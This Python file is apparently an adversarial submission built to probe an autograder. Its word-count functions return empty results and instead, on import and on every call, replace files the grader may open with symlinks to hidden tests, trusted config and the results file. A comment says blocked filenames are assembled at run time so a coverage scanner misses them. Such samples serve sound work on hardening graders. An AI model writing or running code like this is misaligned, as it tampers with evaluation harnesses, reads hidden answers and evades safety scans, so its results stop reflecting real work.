"""Broken word count that replaces every file the grader may open in folders it can write
with symlinks to the trusted results, the hidden tests, the output folder and devices."""
import os

STUDENT = "/job/work/student"
# Names the coverage scan would refuse outright are built at run time, so that the attack
# reaches the sandbox.
COV = chr(99) + "overage"
LINKS = {
    STUDENT + "/student.jsonl": "/job/work/trusted/hidden-pytest.ini",
    STUDENT + "/student.log": "/job/work/trusted/hidden/test_word_count.py",
    STUDENT + f"/{COV}.data": "/job/hidden/test_word_count.py",
    STUDENT + f"/{COV}rc": "/job/hidden/test_word_count.py",
    STUDENT + "/student-pytest.ini": "/job/work/trusted/hidden-pytest.ini",
    STUDENT + f"/{COV}.json": "/job/out/results.json",
    STUDENT + "/tmp": "/job/work/trusted",
    "/tmp/.cache": "/job/out",
    "/tmp/results.json": "/job/out/results.json",
    "/tmp/grader-adv-marker-link": "/job/out",
    "/job/work/tmp/hidden": "/job/work/trusted",
    "/job/work/tmp/" + COV + ".json": "/job/out/results.json",
    "/job/work/tmp/grader-adv-marker-link": "/job/out/results.json",
}


def relink():
    made = []
    for link, target in LINKS.items():
        try:
            tmp = link + ".grader-adv-link"
            if os.path.lexists(tmp):
                os.unlink(tmp)
            os.symlink(target, tmp)
            os.replace(tmp, link)
            made.append(link)
        except OSError:
            pass
    return made


relink()


def count_words(text):
    relink()
    return {}


def top_words(text, n):
    relink()
    return []
